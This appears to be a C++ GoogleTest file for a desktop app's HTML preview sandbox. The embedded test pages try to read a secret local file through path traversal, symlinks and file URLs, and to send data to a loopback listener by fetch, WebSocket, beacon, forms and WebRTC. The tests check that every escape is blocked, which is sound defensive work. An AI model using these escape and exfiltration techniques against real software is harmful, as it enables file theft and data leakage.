// The preview module's sandbox against pages that try to get out of it: to
// read local files, to send anything to a server (a listener on 127.0.0.1
// stands in for it), to open windows, to leave the site and to keep data.
#include "ModuleTestSupport.h"

#include "libs/EntryPoints.h"
#include "platform/System.h"

#include <QApplication>
#include <QDir>
#include <QElapsedTimer>
#include <QImage>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>
#include <QWebEnginePage>
#include <QWebEngineProfile>
#include <QWebEngineView>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <atomic>
#include <fstream>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

namespace vlrtest {
namespace {

constexpr char kSecret[] = "SECRET-4f9a1c";

// Accepts TCP connections and UDP datagrams on one port number of 127.0.0.1
// and keeps every byte that arrives.
class RecordingListener {
public:
    RecordingListener() {
        tcp_ = ::socket(AF_INET, SOCK_STREAM, 0);
        int one = 1;
        ::setsockopt(tcp_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        sockaddr_in a{};
        a.sin_family = AF_INET;
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        ::bind(tcp_, reinterpret_cast<sockaddr*>(&a), sizeof a);
        ::listen(tcp_, 16);
        socklen_t len = sizeof a;
        ::getsockname(tcp_, reinterpret_cast<sockaddr*>(&a), &len);
        port_ = ntohs(a.sin_port);
        udp_ = ::socket(AF_INET, SOCK_DGRAM, 0);
        ::bind(udp_, reinterpret_cast<sockaddr*>(&a), sizeof a);
        thread_ = std::thread([this] { Run(); });
    }
    ~RecordingListener() {
        stop_ = true;
        thread_.join();
        for (int fd : clients_)
            ::close(fd);
        ::close(tcp_);
        ::close(udp_);
    }
    int port() const { return port_; }
    std::string received() {
        std::lock_guard<std::mutex> lock(mutex_);
        return bytes_;
    }
    int connections() const { return connections_; }

private:
    void Run() {
        char buf[4096];
        while (!stop_) {
            std::vector<pollfd> fds{{tcp_, POLLIN, 0}, {udp_, POLLIN, 0}};
            for (int fd : clients_)
                fds.push_back({fd, POLLIN, 0});
            if (::poll(fds.data(), fds.size(), 50) <= 0)
                continue;
            if (fds[0].revents & POLLIN) {
                clients_.push_back(::accept(tcp_, nullptr, nullptr));
                ++connections_;
            }
            for (std::size_t i = 1; i < fds.size(); ++i) {
                if (!(fds[i].revents & (POLLIN | POLLHUP)))
                    continue;
                const ssize_t n = ::recv(fds[i].fd, buf, sizeof buf, MSG_DONTWAIT);
                if (n > 0) {
                    std::lock_guard<std::mutex> lock(mutex_);
                    bytes_.append(buf, std::size_t(n));
                }
            }
        }
    }

    int tcp_ = -1, udp_ = -1, port_ = 0;
    std::atomic<bool> stop_{false};
    std::atomic<int> connections_{0};
    std::vector<int> clients_;
    std::mutex mutex_;
    std::string bytes_;
    std::thread thread_;
};

void Write(const QString& path, const std::string& text) {
    QDir().mkpath(QFileInfo(path).absolutePath());
    std::ofstream(path.toStdString(), std::ios::binary) << text;
}

class PreviewSandbox : public ::testing::Test {
protected:
    void SetUp() override {
        App();
        create_ = Entry<PreviewCreateFn>("preview", "PreviewCreate");
        show_ = Entry<PreviewShowFn>("preview", "PreviewShow");
        ASSERT_NE(create_, nullptr);
        ASSERT_NE(show_, nullptr);
        host_ = std::make_unique<QWidget>();
        host_->resize(800, 600);
        browser_ = create_(host_.get());
        host_->show();
        view_ = qobject_cast<QWebEngineView*>(browser_);
        ASSERT_NE(view_, nullptr);

        site_ = work_.path() + "/site";
        // A file of the user outside the site, and links in the site that
        // lead to it.
        secretFile_ = work_.path() + "/private/secret.txt";
        Write(secretFile_, kSecret);
        Write(site_ + "/data.txt", "site data");
        QImage picture(4, 3, QImage::Format_RGB32);
        picture.fill(Qt::red);
        picture.save(site_ + "/pic.png");
        QFile::link(secretFile_, site_ + "/sub/link-to-secret.txt");
        QFile::link(work_.path() + "/private", site_ + "/private-folder");
        Write(site_ + "/.vlrbuild", kSecret);
        vlr::SetShellOpenHook([this](const std::string& target) {
            opened_.push_back(target);
            return true;
        });
    }
    void TearDown() override {
        vlr::SetShellOpenHook({});
        host_.reset();
    }

    // Shows `html` as the page sub/~1.htm of the site, its file kept apart.
    void ShowPage(const std::string& html, bool inSite = true) {
        const QString page = work_.path() + "/preview/~1.htm";
        Write(page, html);
        show_(browser_, page.toUtf8().constData(), inSite ? site_.toUtf8().constData() : "", "/sub/~1.htm");
    }

    // Waits for the page's title to start with `prefix`.
    QString WaitForTitle(const QString& prefix, int ms = 20000) {
        QElapsedTimer timer;
        timer.start();
        while (timer.elapsed() < ms) {
            QApplication::processEvents(QEventLoop::AllEvents, 50);
            if (view_->page()->title().startsWith(prefix))
                return view_->page()->title();
            QThread::msleep(10);
        }
        return view_->page()->title();
    }

    void Pump(int ms) {
        QElapsedTimer timer;
        timer.start();
        while (timer.elapsed() < ms) {
            QApplication::processEvents(QEventLoop::AllEvents, 50);
            QThread::msleep(10);
        }
    }

    QTemporaryDir work_;
    QString site_, secretFile_;
    std::unique_ptr<QWidget> host_;
    QWidget* browser_ = nullptr;
    QWebEngineView* view_ = nullptr;
    PreviewCreateFn create_ = nullptr;
    PreviewShowFn show_ = nullptr;
    std::vector<std::string> opened_;
};

// Tries each way of reading a file and writes what came back into the title.
std::string ReaderPage(const QString& secretFile) {
    const std::string url = QUrl::fromLocalFile(secretFile).toString().toStdString();
    return R"(<html><head><title>start</title></head><body><script>
var out = [];
function get(name, url) {
  return new Promise(function (done) {
    var x = new XMLHttpRequest();
    x.onload = function () { out.push(name + '=' + (x.status === 200 ? x.responseText : 'blocked')); done(); };
    x.onerror = function () { out.push(name + '=blocked'); done(); };
    try { x.open('GET', url); x.send(); } catch (e) { out.push(name + '=blocked'); done(); }
  });
}
function fetched(name, url) {
  return fetch(url).then(function (r) { return r.text(); })
    .then(function (t) { out.push(name + '=' + t); }, function () { out.push(name + '=blocked'); });
}
function xhr(name, url) {
  try { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); out.push(name + '=' + x.responseText); }
  catch (e) { out.push(name + '=blocked'); }
}
function frame(name, url) {
  return new Promise(function (done) {
    var f = document.createElement('iframe');
    f.onload = function () {
      try { out.push(name + '=' + f.contentDocument.body.innerText); } catch (e) { out.push(name + '=blocked'); }
      done();
    };
    f.onerror = function () { out.push(name + '=blocked'); done(); };
    f.src = url;
    document.body.appendChild(f);
    setTimeout(done, 3000);
  });
}
function picture(url) {
  return new Promise(function (done) {
    var i = new Image();
    i.onload = function () { out.push('picture=' + i.naturalWidth + 'x' + i.naturalHeight); done(); };
    i.onerror = function () { out.push('picture=failed'); done(); };
    i.src = url;
  });
}
xhr('xhr-file', ')" + url + R"(');
Promise.all([
  fetched('fetch-file', ')" + url + R"('),
  get('escape', '../../../../../../../..)" + secretFile.toStdString() + R"('),
  get('escape-encoded', '/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e)" + secretFile.toStdString() + R"('),
  get('link', 'link-to-secret.txt'),
  get('folder-link', '../private-folder/secret.txt'),
  get('record', '../.vlrbuild'),
  get('site', '../data.txt'),
  frame('frame-file', ')" + url + R"('),
  picture('../pic.png')
]).then(function () { document.title = 'done ' + out.join(' | '); });
</script></body></html>)";
}

TEST_F(PreviewSandbox, APageReadsItsSiteAndNoOtherFile) {
    ShowPage(ReaderPage(secretFile_));
    const QString title = WaitForTitle(QStringLiteral("done"));
    ASSERT_TRUE(title.startsWith(QStringLiteral("done"))) << title.toStdString();
    EXPECT_FALSE(title.contains(QLatin1String(kSecret))) << title.toStdString();
    // The site itself works: its files and pictures, by relative address.
    EXPECT_TRUE(title.contains(QStringLiteral("site=site data"))) << title.toStdString();
    EXPECT_TRUE(title.contains(QStringLiteral("picture=4x3"))) << title.toStdString();
    EXPECT_TRUE(title.contains(QStringLiteral("xhr-file=blocked"))) << title.toStdString();
    EXPECT_TRUE(view_->page()->url().scheme() != QStringLiteral("file"));
}

TEST_F(PreviewSandbox, APageAloneReadsNothingButItself) {
    ShowPage(ReaderPage(secretFile_), false);
    const QString title = WaitForTitle(QStringLiteral("done"));
    ASSERT_TRUE(title.startsWith(QStringLiteral("done"))) << title.toStdString();
    EXPECT_FALSE(title.contains(QLatin1String(kSecret))) << title.toStdString();
    EXPECT_FALSE(title.contains(QStringLiteral("site data"))) << title.toStdString();
}

// Every way of sending something to a server that a page's script has, to
// the listener; nothing may arrive, nor may the page leave the site.
TEST_F(PreviewSandbox, NothingReachesAServer) {
    RecordingListener listener;
    const std::string port = std::to_string(listener.port());
    const std::string http = "http://127.0.0.1:" + port;
    ShowPage(R"(<html><head><title>start</title></head><body><iframe></iframe><script>
var out = [];
function attempt(name, f) { try { f(); out.push(name + '=tried'); } catch (e) { out.push(name + '=refused'); } }
function rtc(name, PC) {
  if (typeof PC !== 'function') { out.push(name + '=absent'); return; }
  var pc = new PC({ iceServers: [{ urls: 'turn:127.0.0.1:)" + port + R"(?transport=tcp', username: 'SENT-turn', credential: 'x' },
                                  { urls: 'stun:127.0.0.1:)" + port + R"(' }] });
  pc.createDataChannel('SENT-channel');
  var remote = 'v=0\r\no=- 1 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\nm=application 9 UDP/DTLS/SCTP webrtc-datachannel\r\n' +
      'c=IN IP4 127.0.0.1\r\na=ice-ufrag:SENTufrag\r\na=ice-pwd:SENTpasswordSENTpassword\r\n' +
      'a=fingerprint:sha-256 ' + Array(32).fill('AA').join(':') + '\r\na=setup:active\r\na=mid:0\r\n' +
      'a=sctp-port:5000\r\na=candidate:1 1 udp 2130706431 127.0.0.1 )" + port + R"( typ host\r\n' +
      'a=candidate:2 1 tcp 2130706431 127.0.0.1 )" + port + R"( typ host tcptype passive\r\n';
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); })
    .then(function () { return pc.setRemoteDescription({ type: 'answer', sdp: remote }); }).catch(function () {});
  out.push(name + '=made');
}
attempt('websocket', function () { new WebSocket('ws://127.0.0.1:)" + port + R"(/SENT-ws'); });
attempt('eventsource', function () { new EventSource(')" + http + R"(/SENT-es'); });
attempt('fetch', function () { fetch(')" + http + R"(/SENT-fetch', { method: 'POST', body: 'SENT' }).catch(function () {}); });
attempt('beacon', function () { navigator.sendBeacon(')" + http + R"(/SENT-beacon', 'SENT'); });
attempt('xhr', function () { var x = new XMLHttpRequest(); x.open('GET', ')" + http + R"(/SENT-xhr'); x.send(); });
attempt('popup', function () { if (window.open(')" + http + R"(/SENT-popup')) throw 0; });
rtc('rtc', window.RTCPeerConnection);
var f = document.createElement('iframe');
document.body.appendChild(f);
rtc('rtc-frame', f.contentWindow.RTCPeerConnection);
rtc('rtc-webkit', window.webkitRTCPeerConnection);
rtc('rtc-parsed-frame', window[0].RTCPeerConnection);
document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
rtc('rtc-html-frame', window[window.length - 1].RTCPeerConnection);
var g = document.createElement('iframe');
f.contentDocument.body.appendChild(g);
rtc('rtc-nested-frame', f.contentWindow[0].RTCPeerConnection);
document.title = 'done ' + out.join(' ');
setTimeout(function () { location.href = ')" + http + R"(/SENT-away'; }, 100);
setTimeout(function () { var fm = document.createElement('form');
  fm.action = ')" + http + R"(/SENT-form'; fm.method = 'post'; document.body.appendChild(fm); fm.submit(); }, 200);
</script></body></html>)");
    const QString title = WaitForTitle(QStringLiteral("done"));
    ASSERT_TRUE(title.startsWith(QStringLiteral("done"))) << title.toStdString();
    // Time for anything under way to arrive.
    Pump(3000);
    EXPECT_EQ(listener.received().find("SENT"), std::string::npos) << listener.received();
    EXPECT_EQ(listener.connections(), 0) << title.toStdString();
    EXPECT_EQ(title.count(QStringLiteral("=absent")), 6) << title.toStdString();
    EXPECT_EQ(view_->page()->url().path(), QStringLiteral("/sub/~1.htm"));
    EXPECT_EQ(view_->page()->url().scheme(), QStringLiteral("velora-preview"));
    EXPECT_TRUE(opened_.empty()) << (opened_.empty() ? std::string() : opened_.front());
}

TEST_F(PreviewSandbox, ALinkToTheWebOpensTheDesktopBrowserOnAClick) {
    RecordingListener listener;
    const std::string target = "http://127.0.0.1:" + std::to_string(listener.port()) + "/clicked";
    ShowPage("<html><head><title>ready</title></head><body style=\"margin:0\">"
             "<a href=\"" + target + "\" style=\"display:block;width:400px;height:300px\">away</a>"
             "<a href=\"../data.txt\" id=\"inside\">inside</a></body></html>");
    ASSERT_EQ(WaitForTitle(QStringLiteral("ready")), QStringLiteral("ready"));
    Pump(300);
    QWidget* input = view_->focusProxy();
    ASSERT_NE(input, nullptr);
    QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(100, 100));
    QElapsedTimer timer;
    timer.start();
    while (opened_.empty() && timer.elapsed() < 10000)
        Pump(50);
    ASSERT_EQ(opened_.size(), 1u);
    EXPECT_EQ(opened_.front(), target);
    Pump(500);
    EXPECT_EQ(view_->page()->url().path(), QStringLiteral("/sub/~1.htm"));
    EXPECT_EQ(listener.connections(), 0);
}

TEST_F(PreviewSandbox, NothingIsKept) {
    ShowPage(R"(<html><head><title>start</title></head><body><script>
var out = [];
try { localStorage.setItem('k', 'v'); out.push('local=kept'); } catch (e) { out.push('local=refused'); }
document.cookie = 'k=v; max-age=99999';
out.push('cookie=' + document.cookie);
document.title = 'done ' + out.join(' ');
</script></body></html>)");
    const QString title = WaitForTitle(QStringLiteral("done"));
    EXPECT_TRUE(title.contains(QStringLiteral("local=refused"))) << title.toStdString();
    QWebEngineProfile* profile = view_->page()->profile();
    EXPECT_TRUE(profile->isOffTheRecord());
    EXPECT_EQ(profile->httpCacheType(), QWebEngineProfile::MemoryHttpCache);
    EXPECT_EQ(profile->persistentCookiesPolicy(), QWebEngineProfile::NoPersistentCookies);
}

}  // namespace
}  // namespace vlrtest
